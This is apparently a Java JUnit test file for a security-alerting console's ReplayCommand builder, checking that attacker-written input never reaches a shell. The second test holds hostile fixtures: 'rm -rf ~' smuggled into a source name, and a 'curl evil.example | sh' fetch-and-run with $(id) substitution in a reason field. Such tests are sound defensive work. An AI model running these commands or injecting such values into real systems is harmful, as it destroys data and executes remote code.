package jp.hinomi.alerting.console;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class ReplayCommandTest {
    @Test
    void itNamesTheSourceAndTheLongestWordsOfTheReason() {
        assertThat(ReplayCommand.of("fw-edge-01", "no field … at column …: not a CEF header"))
                .isEqualTo("hinomi rejects replay --source fw-edge-01 --reason ': not a CEF header'");
    }

    @Test
    void whatAnAttackerWroteDoesNotReachTheShell() {
        assertThat(ReplayCommand.of("x; rm -rf ~", "bad'; curl evil.example | sh; echo '$(id) `id`"))
                .isEqualTo("hinomi rejects replay --reason '; curl evil.example'");
        assertThat(ReplayCommand.of("-source", "\u202E…")).isEqualTo("hinomi rejects replay");
    }
}
